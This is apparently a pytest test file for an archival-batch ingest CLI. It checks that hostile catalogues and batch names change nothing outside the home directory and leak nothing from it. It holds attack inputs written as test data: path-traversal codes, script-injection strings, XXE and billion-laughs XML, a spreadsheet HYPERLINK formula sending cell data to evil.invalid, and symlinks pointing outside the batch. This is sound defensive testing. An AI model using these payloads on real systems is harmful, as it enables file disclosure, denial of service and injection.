"""Hostile batches through the real pipeline (the CLI's ``ingest``): names that are paths, script in
titles, XML bombs, huge and odd catalogues, formula cells, links.

Every case asserts the same contract (issue #12): nothing outside the home and the batch is written
or removed (a sentinel tree around the home is compared before and after), nothing outside is read
(canary files whose content must appear in no output, receipt, DB or store), every catalogue row gets
a verdict and the batch a receipt, no traceback, no raw markup in any HTML output.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import sqlite3
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from markup import injected_markup

from guidang.cli import main
from guidang.config import Settings
from guidang.samples.batch import make_batch, write_catalogue, write_manifest
from guidang.samples.truth import BatchTruth

COLUMNS = ["序号", "档号", "题名", "日期", "页数", "保管期限"]
SCRIPT = "<script>alert(1)</script>"


@dataclass
class Arena:
    """A temporary folder holding the home, the batch and a sentinel tree with a canary around them."""

    root: Path
    home: Path
    outside: Path
    canary: str

    def snapshot(self, skip: tuple[Path, ...]) -> dict[str, tuple[str, int, str]]:
        """Every entry under the arena but the home and ``skip``: kind, size and content digest."""
        out: dict[str, tuple[str, int, str]] = {}
        for dirpath, dirnames, filenames in os.walk(self.root):
            here = Path(dirpath)
            dirnames[:] = [d for d in dirnames if here / d != self.home and here / d not in skip]
            for name in dirnames + filenames:
                p = here / name
                if p in skip:
                    continue
                st = os.lstat(p)
                digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() and not p.is_symlink() else ""
                out[str(p.relative_to(self.root))] = (oct(st.st_mode), st.st_size, digest)
        return out


@pytest.fixture
def arena(home: Settings, tmp_path: Path) -> Arena:
    outside = tmp_path / "outside"
    (outside / "victim" / "deep").mkdir(parents=True)
    canary = f"CANARY-{uuid.uuid4().hex}"
    (outside / "canary.txt").write_text(canary, "utf-8")
    (outside / "victim" / "keep.txt").write_text("must survive", "utf-8")
    (outside / "victim" / "deep" / "keep2.txt").write_text("must survive too", "utf-8")
    # a second profile's kept item that '..' must not reach
    other = home.rejected_root / "other" / "OLD" / "X-1"
    other.mkdir(parents=True)
    (other / "reasons.json").write_text("{}", "utf-8")
    return Arena(tmp_path, home.home, outside, canary)


@pytest.fixture(scope="module")
def good_batch(tmp_path_factory: pytest.TempPathFactory) -> BatchTruth:
    """One clean one-page item, made once; each test copies it."""
    root = tmp_path_factory.mktemp("good")
    return make_batch(root / "drop", page_counts=(1,), seed=5, dpi=150, profile="clean", colour="none",
                      batch_id="HOSTILE", truth_path=root / "truth.json")


def copy_batch(good: BatchTruth, dest: Path) -> Path:
    import shutil

    shutil.copytree(good.batch_dir, dest)
    return dest


def catalogue_rows(batch: Path) -> list[dict[str, str]]:
    import csv

    text = (batch / "catalogue.csv").read_text("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def rewrite_catalogue(batch: Path, rows: list[dict[str, str]], name: str = "catalogue.csv") -> None:
    for n in ("catalogue.csv", "目录.csv", "catalogue.xlsx", "目录.xlsx"):
        (batch / n).unlink(missing_ok=True)
    columns = list(dict.fromkeys(c for r in rows for c in r)) if rows else COLUMNS
    write_catalogue(batch / name, columns, rows)
    write_manifest(batch)


def ingest(batch: Path) -> dict[str, object]:
    result = CliRunner().invoke(main, ["ingest", str(batch), "--profile", "demo", "--json"])
    assert "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    out: dict[str, object] = json.loads(result.stdout)
    return out


def all_output_text(home: Path) -> Iterator[tuple[Path, bytes]]:
    for p in home.rglob("*"):
        if p.is_file() and not p.is_symlink() and p.suffix not in (".sock",):
            yield p, p.read_bytes()


def assert_contract(arena: Arena, before: dict[str, tuple[str, int, str]], batch: Path,
                    out: dict[str, object], rows: list[dict[str, str]]) -> None:
    assert arena.snapshot((batch,)) == before, "something outside the home and the batch changed"
    leaked = [str(p) for p, data in all_output_text(arena.home) if arena.canary.encode() in data]
    assert not leaked, f"canary content found in {leaked}"
    db = sqlite3.connect(arena.home / "catalogue.db")
    try:
        dump = "\n".join(db.iterdump())
    finally:
        db.close()
    assert arena.canary not in dump
    receipt = out["receipt"]
    assert isinstance(receipt, list) and receipt and all(Path(p).is_file() for p in receipt)
    for p in receipt:
        assert Path(p).resolve().is_relative_to(arena.home.resolve())
    for p, data in all_output_text(arena.home):
        if p.suffix == ".html":
            assert not injected_markup(data.decode("utf-8", "replace")), f"raw markup in {p}"
    if out["batch"]["status"] == "done":  # type: ignore[index]
        verdicts = [i["id"] for i in out["items"]]  # type: ignore[attr-defined]
        for row in rows:
            assert row['档号'].strip() in verdicts, f"no verdict for row {row['档号']!r}"
    else:
        assert out["batch"]["problems"]  # type: ignore[index]


def assert_went_on(item: dict[str, object]) -> None:
    """The clean item was processed past intake: its scans were measured (150 dpi, so SCAN-DPI
    returns it under the default profile; no INTAKE problem of its own)."""
    failed = item["failed_checks"]
    assert isinstance(failed, list) and failed and all(c.startswith("SCAN") for c in failed), item


# -- 档号 that are paths ----------------------------------------------------------------------------


def hostile_codes(arena: Arena) -> list[str]:
    return [
        str(arena.outside / "victim"),  # absolute: was removed with rmtree
        "../../../../x",  # wrote reasons.json and delivered/ outside the home
        "..",  # removed the whole rejected tree of the profile, then crashed
        ".",  # wiped the batch's rejected folder
        "A\x00B",  # NUL: crashed the run
        "长" * 100,  # 300 bytes of UTF-8: crashed the run
        "sub/dir",
        "CON",
        "..trail",
        "\u00a0x\u00a0\u00a0.",  # ends with a dot after no-break spaces
        "trail.",
        "a\tb",
        "x\u202eexe.tif",  # a bidi override
    ]


def test_unsafe_archival_codes_become_verdicts_and_touch_nothing_outside(
        arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    good_code = rows[0]["档号"]
    for n, code in enumerate(hostile_codes(arena), start=2):
        rows.append({**rows[0], "序号": str(n), "档号": code, "题名": f"恶意 {n}"})
    rewrite_catalogue(batch, rows)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    items = {i["id"]: i for i in out["items"]}  # type: ignore[attr-defined]
    assert_went_on(items[good_code])
    for code in hostile_codes(arena):
        item = items[code.strip()]
        assert item["status"] == "rejected"
        assert "INTAKE-UNSAFE" in item["failed_checks"]
        problem = next(p for p in item["problems"] if p["check"] == "INTAKE-UNSAFE")
        assert "档号" in problem["message_zh"] and "cannot name a folder" in problem["message_en"]
        kept = Path(item["rejected_path"])
        assert kept.resolve().is_relative_to((arena.home / "rejected" / "demo" / "HOSTILE").resolve())
        assert json.loads((kept / "reasons.json").read_text("utf-8"))["id"] == code.strip()
    # the other profile's kept item is still there
    assert (arena.home / "rejected" / "other" / "OLD" / "X-1" / "reasons.json").is_file()
    assert (arena.outside / "victim" / "keep.txt").read_text("utf-8") == "must survive"


def test_script_in_title_is_escaped_in_every_html(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    rows[0]["题名"] = SCRIPT
    rows.append({**rows[0], "序号": "2", "档号": "<img src=x onerror=alert(2)>", "题名": SCRIPT})
    rewrite_catalogue(batch, rows)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    html = Path(out["receipt"][1]).read_text("utf-8")  # type: ignore[index]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# -- catalogues that attack the parser -------------------------------------------------------------


def xlsx_bytes(rows: list[dict[str, str]], text: frozenset[str] = frozenset()) -> bytes:
    """A workbook of ``rows``; a value starting with '=' is a formula unless it is in ``text``."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    columns = list(rows[0])
    ws.append(columns)
    for r in rows:
        ws.append([r[c] for c in columns])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if cell.value in text:
                cell.data_type = "s"  # typed as text: the spreadsheet shows '=1+1', never computes it
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def add_doctype(text: str, doctype: str) -> str:
    head, sep, body = text.partition("?>")
    return head + sep + doctype + body if sep else doctype + text


def with_part(xlsx: bytes, part: str, edit: object) -> bytes:
    """The workbook with one part rewritten by ``edit`` (a function of the part's text)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == part:
                data = edit(data.decode("utf-8")).encode("utf-8")  # type: ignore[operator]
            dst.writestr(info.filename, data)
    return out.getvalue()


def xxe(canary: Path) -> object:
    def edit(text: str) -> str:
        text = text.replace("<sheetData>", '<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&xxe;</t></is></c>'
                            "</row>", 1)
        return add_doctype(text, f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{canary}">]>')
    return edit


def laughs(text: str) -> str:
    decl = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    text = text.replace("<sheetData>", '<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&lol9;</t></is></c>'
                        "</row>", 1)
    return add_doctype(text, f"<!DOCTYPE worksheet [{decl}]>")


@pytest.mark.parametrize("attack", ["xxe", "laughs", "xxe-workbook"])
def test_xml_attacks_in_an_xlsx_catalogue_are_a_batch_problem_with_a_receipt(
        arena: Arena, good_batch: BatchTruth, tmp_path: Path, attack: str) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    data = xlsx_bytes(rows)
    canary = arena.outside / "canary.txt"
    if attack == "xxe":
        data = with_part(data, "xl/worksheets/sheet1.xml", xxe(canary))
    elif attack == "laughs":
        data = with_part(data, "xl/worksheets/sheet1.xml", laughs)
    else:
        def workbook(text: str) -> str:  # read by openpyxl with lxml, not expat
            return add_doctype(text, f'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file://{canary}">]>')
        data = with_part(data, "xl/workbook.xml", workbook)
    (batch / "catalogue.csv").unlink()
    (batch / "catalogue.xlsx").write_bytes(data)
    write_manifest(batch)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    assert out["batch"]["status"] == "failed"  # type: ignore[index]
    problem = out["batch"]["problems"][0]  # type: ignore[index]
    assert problem["check"] == "INTAKE-CATALOGUE" and "DOCTYPE" in problem["message_zh"]


def test_a_huge_csv_is_refused_at_the_row_limit(arena: Arena, good_batch: BatchTruth, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GUIDANG_PROFILES__DEMO__LIMITS__MAX_ROWS", "50")
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    rows += [{**rows[0], "序号": str(n), "档号": f"Z109-WS·2023-Y-BGS-{n:04d}"} for n in range(2, 52)]
    rewrite_catalogue(batch, rows)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    assert out["batch"]["status"] == "failed"  # type: ignore[index]
    problem = out["batch"]["problems"][0]  # type: ignore[index]
    assert "50" in problem["message_zh"] and "limits.max_rows" in problem["message_en"]


def test_formula_cells_are_data(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    good_code = rows[0]["档号"]
    formula = '=HYPERLINK("http://evil.invalid/?"&A1,"点击")'
    rows[0]["题名"] = formula  # a formula cell (openpyxl writes no cached value)
    rows.append({**rows[0], "序号": "2", "档号": "=1+1", "题名": "@SUM(1)"})
    data = xlsx_bytes(rows, text=frozenset({"=1+1"}))
    (batch / "catalogue.csv").unlink()
    (batch / "catalogue.xlsx").write_bytes(data)
    write_manifest(batch)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    items = {i["id"]: i for i in out["items"]}  # type: ignore[attr-defined]
    # the formula is never evaluated: a formula cell without a value is an empty 题名 (a verdict), and
    # a value that looks like a formula is kept as the text it is
    assert good_code not in items or items[good_code]["status"] == "rejected"
    assert items["=1+1"]["status"] == "rejected" and items["=1+1"]["title"] == "@SUM(1)"
    assert_contract(arena, before, batch, out, [r for r in rows if r["题名"] != formula])
    db = sqlite3.connect(arena.home / "catalogue.db")
    try:
        titles = {t for (t,) in db.execute("select title from items")}
    finally:
        db.close()
    assert "@SUM(1)" in titles and not any("evil.invalid" in (t or "") for t in titles)


# -- links, encodings, batch names -----------------------------------------------------------------


def test_a_linked_catalogue_is_never_read(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    outside = arena.outside / "catalogue.csv"
    write_catalogue(outside, list(rows[0]), [{**rows[0], "题名": arena.canary}])
    (batch / "catalogue.csv").unlink()
    (batch / "catalogue.csv").symlink_to(outside)
    write_manifest(batch)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, [])


def test_a_linked_manifest_is_never_read(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    outside = arena.outside / "manifest.txt"
    outside.write_text(f"{'0' * 64}  {arena.canary}.tif\n", "utf-8")
    (batch / "manifest-sha256.txt").unlink()
    (batch / "manifest-sha256.txt").symlink_to(outside)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)


@pytest.mark.parametrize("encoding", ["utf-16", "gb18030", "utf-8-sig"])
def test_odd_but_allowed_encodings_are_read(arena: Arena, good_batch: BatchTruth, tmp_path: Path,
                                           encoding: str) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    rows.append({**rows[0], "序号": "2", "档号": "Z109-WS·2023-Y-BGS-9999", "题名": "繁體與𠀀罕用字"})
    (batch / "catalogue.csv").unlink()
    write_catalogue(batch / "catalogue.csv", list(rows[0]), rows, encoding=encoding)
    write_manifest(batch)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    items = {i["id"]: i for i in out["items"]}  # type: ignore[attr-defined]
    assert items["Z109-WS·2023-Y-BGS-9999"]["title"] == "繁體與𠀀罕用字"
    assert_went_on(items[rows[0]["档号"]])


@pytest.mark.parametrize("payload", [b"\x00", b"x" * 200_000, b"\xff\xfe\xfd"])
def test_broken_csv_bytes_are_a_batch_problem(arena: Arena, good_batch: BatchTruth, tmp_path: Path,
                                             payload: bytes) -> None:
    """A NUL in a CSV and a field past csv.field_size_limit() raised csv.Error out of the run."""
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    data = (batch / "catalogue.csv").read_bytes()
    (batch / "catalogue.csv").write_bytes(data.rstrip(b"\r\n") + b',"' + payload + b'"\r\n')
    write_manifest(batch)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    if out["batch"]["status"] == "failed":  # type: ignore[index]
        assert out["batch"]["problems"][0]["check"] == "INTAKE-CATALOGUE"  # type: ignore[index]


@pytest.mark.parametrize("name", ["CON", "x" * 250, "trailing.", "-rf", "<b>bold</b>"])
def test_hostile_batch_names_stay_inside_the_outbox_and_rejected_area(
        arena: Arena, good_batch: BatchTruth, tmp_path: Path, name: str) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / name)
    rows = catalogue_rows(batch)
    rows.append({**rows[0], "序号": "2", "档号": "..", "题名": "x"})
    rewrite_catalogue(batch, rows)
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    outbox = arena.home / "outbox" / "demo"
    folder = Path(out["receipt"][0]).parent  # type: ignore[index]
    assert folder.parent == outbox and (folder.name == name or folder.name.startswith("batch-"))
    kept = Path(next(i for i in out["items"] if i["id"] == "..")["rejected_path"])  # type: ignore[attr-defined]
    assert kept.parent.parent == arena.home / "rejected" / "demo"


def test_a_second_run_replaces_only_its_own_kept_folders(arena: Arena, good_batch: BatchTruth,
                                                       tmp_path: Path, home: Settings) -> None:
    """A kept folder of the same name that this batch did not make (here: planted) is left alone."""
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    rows.append({**rows[0], "序号": "2", "档号": "Z109-WS·2023-Y-BGS-0777", "题名": "x"})
    rewrite_catalogue(batch, rows)
    planted = home.rejected_root / "demo" / "HOSTILE" / "Z109-WS·2023-Y-BGS-0777"
    planted.mkdir(parents=True)
    (planted / "someone-elses.txt").write_text("keep", "utf-8")
    out = ingest(batch)
    kept = Path(next(i for i in out["items"] if i["id"] == "Z109-WS·2023-Y-BGS-0777")["rejected_path"])  # type: ignore[attr-defined]
    assert kept != planted and kept.name == planted.name + "~2"
    assert (planted / "someone-elses.txt").read_text("utf-8") == "keep"


def test_manifest_paths_outside_the_batch_are_never_opened(arena: Arena, good_batch: BatchTruth,
                                                           tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    canary = arena.outside / "canary.txt"
    manifest = batch / "manifest-sha256.txt"
    manifest.write_text(manifest.read_text("utf-8") + f"{'0' * 64}  ../../outside/canary.txt\n"
                        f"{'0' * 64}  {canary}\n{'0' * 64}  ~/x\n", "utf-8")
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    problems = out["batch"]["problems"]  # type: ignore[index]
    assert sum(1 for p in problems if p["check"] == "INTAKE-MANIFEST") == 3


def test_an_item_folder_linked_outside_is_not_followed(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
    rows = catalogue_rows(batch)
    (arena.outside / "pages").mkdir()
    (arena.outside / "pages" / "p-0001.txt").write_text(arena.canary, "utf-8")
    rows.append({**rows[0], "序号": "2", "档号": "Z109-WS·2023-Y-BGS-0555", "题名": "链接"})
    rewrite_catalogue(batch, rows)
    (batch / "Z109-WS·2023-Y-BGS-0555").symlink_to(arena.outside / "pages")
    before = arena.snapshot((batch,))
    out = ingest(batch)
    assert_contract(arena, before, batch, out, rows)
    item = next(i for i in out["items"] if i["id"] == "Z109-WS·2023-Y-BGS-0555")  # type: ignore[attr-defined]
    assert item["status"] == "rejected" and "INTAKE-UNSAFE" in item["failed_checks"]
